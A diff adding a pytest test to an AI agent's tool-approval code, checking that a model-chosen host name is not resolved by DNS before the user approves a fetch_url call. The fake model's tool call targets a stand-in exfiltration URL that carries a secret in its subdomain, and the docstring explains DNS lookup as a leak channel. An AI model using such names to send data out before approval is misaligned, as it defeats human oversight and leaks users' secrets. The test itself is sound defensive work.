@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import socket
+
 import pytest
 
 from core.agent.approvals import ApprovalBroker
@@ -157,3 +159,30 @@ def test_a_fetch_of_a_public_address_still_asks(any_fake, tmp_path):
     assert asked["tool"] == "fetch_url"
     turn.approvals.decide(asked["approval_id"], "deny")
     assert turn.join() == "completed"
+
+
+def test_a_host_name_is_not_looked_up_before_the_user_allows_the_fetch(
+    any_fake, tmp_path, monkeypatch
+):
+    """Resolving a name the model chose already tells that name's DNS server about it (a way
+    out for data, e.g. a secret in the name): only literal addresses are judged before the
+    user is asked; a name is resolved once the fetch is allowed."""
+    looked_up: list[str] = []
+    real_getaddrinfo = socket.getaddrinfo
+
+    def recording_getaddrinfo(host, *args, **kwargs):
+        looked_up.append(str(host))
+        return real_getaddrinfo(host, *args, **kwargs)
+
+    monkeypatch.setattr(socket, "getaddrinfo", recording_getaddrinfo)
+    url = "https://the-secret-is-42.leak.example.com/x"
+    any_fake.reply(tool_calls=[{"id": "call_d", "name": "fetch_url", "arguments": {"url": url}}])
+    any_fake.reply(text="Not fetched.")
+    turn = Turn(any_fake, tmp_path).start()
+
+    asked = turn.events.wait_for("approval.requested")
+    assert asked["arguments"] == {"url": url}
+    assert not [host for host in looked_up if "leak.example.com" in host]
+    turn.approvals.decide(asked["approval_id"], "deny")
+    assert turn.join() == "completed"
+    assert not [host for host in looked_up if "leak.example.com" in host]
